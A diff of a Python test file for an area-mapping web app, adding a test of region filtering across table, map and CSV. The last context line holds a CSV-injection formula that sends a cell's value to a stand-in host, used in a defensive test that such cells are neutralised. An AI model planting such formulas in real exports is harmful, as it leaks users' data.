@@ -82,6 +82,32 @@ class TestAreas:
             expected = "not assessed" if row["id"] in unassessed else None
             assert (row["asset_desert"] == "not assessed") == bool(expected), row["id"]
 
+    def test_a_region_shows_only_the_areas_inside_it(self, client, sign_in,  # noqa: ANN001
+                                                     analysed: GraphStore) -> None:
+        """Within a health board its authorities, within an authority its wards: table,
+        map and CSV; a code that is not a region is refused."""
+        from assetmap import boundaries
+        from assetmap.services import areas
+
+        areas.import_areas(analysed, boundaries.bundled(["local_authority", "health_board"]))
+        analysis.run_analysis(analysed)
+        sign_in("coordinator", "org-council")
+        wards = {row["id"] for row in analysis.hotspots(analysed, "ward")}
+        html = client.get("/areas/?level=ward&within=W06000023").get_data(as_text=True)
+        assert html.count('<th scope="row">') == len(wards) > 0  # the sample's wards
+        board = client.get("/areas/?level=local_authority&within=W11000025").get_data(
+            as_text=True)  # Hywel Dda: Ceredigion, Pembrokeshire, Carmarthenshire
+        assert board.count('<th scope="row">') == board.count('"type": "Feature"') == 3
+        assert '<span class="hint">W06000008</span>' in board
+        assert '<span class="hint">W06000023</span>' not in board
+        rows = list(csv.DictReader(io.StringIO(client.get(
+            "/areas/hotspots.csv?level=local_authority&within=W11000025").get_data(
+                as_text=True))))
+        assert sorted(r["id"] for r in rows) == ["W06000008", "W06000009", "W06000010"]
+        refused = client.get("/areas/?level=ward&within=W99")
+        assert refused.status_code == 400 and "within: no health board or local authority" in (
+            refused.get_data(as_text=True))
+
     def test_csv_cells_a_spreadsheet_would_run_are_neutralised(self, client, sign_in,  # noqa: ANN001
                                                                 analysed: GraphStore) -> None:
         formula = '=HYPERLINK("http://evil.example/?"&A1,"Powys")'
